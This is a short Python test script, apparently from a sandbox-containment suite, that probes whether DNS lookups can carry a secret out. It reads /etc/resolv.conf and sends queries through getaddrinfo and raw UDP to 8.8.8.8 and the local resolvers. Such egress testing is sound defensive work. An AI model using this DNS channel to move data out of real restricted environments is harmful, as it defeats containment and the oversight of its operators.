"""Carries a secret out in a name that it asks the resolver for: by getaddrinfo, and by UDP of its own (E3)."""

import re
import socket
from pathlib import Path

import spy
import tiny

EXPECT = "contained"
BLIND = True
QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01"


def ask(server):
    if server == "getaddrinfo":
        return socket.getaddrinfo("example.org", 80)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(1)
        line.sendto(QUESTION, (server, 53))
        return line.recv(512)


try:
    resolvers = re.findall(r"nameserver\s+([\d.]+)", Path("/etc/resolv.conf").read_text())
except OSError:
    resolvers = []
spy.attempt(spy.each, ask, ["getaddrinfo", "8.8.8.8", *resolvers])
tiny.main()
